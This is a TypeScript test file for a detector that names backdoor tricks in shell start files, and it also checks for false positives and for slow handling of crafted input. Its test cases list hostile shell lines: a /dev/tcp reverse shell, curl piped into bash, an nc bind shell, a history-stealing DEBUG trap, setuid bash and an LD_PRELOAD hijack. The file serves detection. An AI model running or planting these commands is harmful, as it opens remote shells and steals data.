import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import { decidesCode, injectsCode, tricksOf } from './shell-tricks.ts';

test('tricksOf() names what intruders put into start files', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["alias sudo='/tmp/.s'", 'alias of sudo'],
    ['sudo() { /tmp/s "$@"; }', 'function in place of sudo'],
    ['export LD_PRELOAD=/tmp/x.so', 'LD_PRELOAD set'],
    ['export PATH=/tmp:$PATH', 'PATH with /tmp'],
    ['PATH=.:$PATH', 'PATH with .'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'connection by /dev/tcp'],
    ['curl -s http://x/y | bash', 'curl into a shell'],
    ['echo aGk= | base64 -d | sh', 'base64 decoded'],
    ['nc -l -p 4444 -e /bin/sh', 'nc that hands out a shell'],
    ["trap 'cat ~/.h >> /tmp/k' DEBUG", 'trap on DEBUG'],
    ['chmod u+s /bin/bash', 'setuid bit set'],
    ['unset HISTFILE', 'history switched off'],
  ];
  for (const [text, name] of cases) assert.ok(tricksOf(text).includes(name), `${text}: ${tricksOf(text).join()}`);
});

test('tricksOf() finds nothing in what Debian ships', () => {
  const bashrc = `alias ls='ls --color=auto'\nexport PATH="$HOME/.local/bin:$PATH"\n[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"\nHISTSIZE=1000\n# alias sudo=x\n`;
  assert.deepEqual(tricksOf(bashrc), []);
  assert.deepEqual(tricksOf('test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'), []);
});

test('tricksOf() is fast for long lines made to slow it down', () => {
  const start = performance.now();
  for (const text of [
    'curl '.repeat(20_000),
    `trap ${'a '.repeat(20_000)}`,
    'nc -'.repeat(20_000),
    '/dev/'.repeat(15_000),
  ])
    tricksOf(text);
  assert.ok(performance.now() - start < 5000);
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => Array.isArray(tricksOf(text))));
});

test('what injects code also decides it', () => {
  assert.ok(injectsCode('LD_PRELOAD') && decidesCode('LD_PRELOAD'));
  assert.ok(!injectsCode('PATH') && decidesCode('PATH'));
  assert.ok(!decidesCode('LANG'));
});
